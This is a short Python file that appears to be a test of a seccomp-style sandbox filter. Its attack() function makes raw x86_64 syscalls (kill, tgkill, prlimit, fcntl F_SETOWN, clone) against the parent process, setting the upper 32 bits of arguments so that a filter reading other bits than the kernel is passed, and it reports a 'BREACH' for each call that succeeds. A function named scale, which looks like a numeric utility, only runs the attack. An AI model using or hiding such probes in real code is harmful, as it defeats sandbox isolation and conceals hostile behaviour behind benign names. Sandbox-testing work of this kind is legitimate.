"""Calls with arguments whose upper 32 bits are set, so that a filter that looks at other bits than the kernel is passed.

Must end: no signal to another process, no process, no limit of another.
Outcomes: failed, skipped, passed
"""

import ctypes
import os
import platform
import signal

import torch

HIGH = 1 << 32


def attack():
    if platform.machine() != "x86_64":
        return "nothing"
    libc, loot, parent = ctypes.CDLL(None, use_errno=True), [], os.getppid()
    number, limits = ctypes.c_long, (ctypes.c_ulong * 2)()
    for high in (0, HIGH, HIGH * 7, -HIGH):
        if libc.syscall(number(62), number(parent | high), number(signal.SIGURG)) == 0:
            loot.append("kill")
        if libc.syscall(number(234), number(parent | high), number(parent | high), number(signal.SIGURG)) == 0:
            loot.append("tgkill")
        if libc.syscall(number(302), number(parent | high), number(7), None, limits) == 0:
            loot.append("prlimit")
        if libc.syscall(number(72 | high), number(4), number(8 | high), number(parent)) == 0:
            loot.append("F_SETOWN")
        pid = libc.syscall(number(56), number(17 | high), None, None, None, None)
        if pid == 0:
            libc._exit(0)
        loot += ["clone"] if pid > 0 else []
    return f"BREACH: {loot}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
